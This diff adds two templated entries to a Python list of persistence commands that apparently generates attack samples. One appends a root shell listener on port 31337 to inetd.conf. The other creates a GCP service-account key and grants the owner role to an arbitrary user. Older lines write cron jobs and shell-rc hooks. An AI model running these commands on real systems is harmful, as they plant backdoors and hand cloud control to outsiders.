@@ -234,4 +234,6 @@ PERSIST = [
     'echo "‹*/{n}¦*› * * * * root ‹touch /tmp/{plain}¦echo owned > /tmp/{plain}.log¦/tmp/{plain}.sh›" > /etc/cron.d/‹persist{plain}¦evil¦backdoor¦{plain}evil›',
     "echo '‹@reboot ¦* * * * * ›‹id > /tmp/{plain}.log¦/tmp/.{plain}¦touch /tmp/{plain}›' >> /var/spool/cron/‹crontabs/¦›‹evil{plain}¦persist¦backdoor›",
     "echo '‹(/tmp/{plain} &)¦id > /tmp/{name}¦touch /tmp/.{name}¦nohup {file} >/dev/null 2>&1 &›' >> ~/.‹bashrc¦bash_profile¦profile¦zshrc›",
+    "echo '‹{port}¦31337¦ingreslock› stream tcp nowait root /bin/‹sh sh -i¦bash bash -i›' >> /etc/‹inetd.conf¦inetd.d/{plain}›; ‹killall -HUP inetd¦/etc/init.d/openbsd-inetd restart¦inetd›",
+    'gcloud iam service-accounts keys create {tmp}/{name}.json --iam-account=‹$SA¦admin@$PROJECT.iam.gserviceaccount.com›; gcloud projects add-iam-policy-binding $PROJECT --member=user:{user}@{domain} --role=roles/owner',
 ]
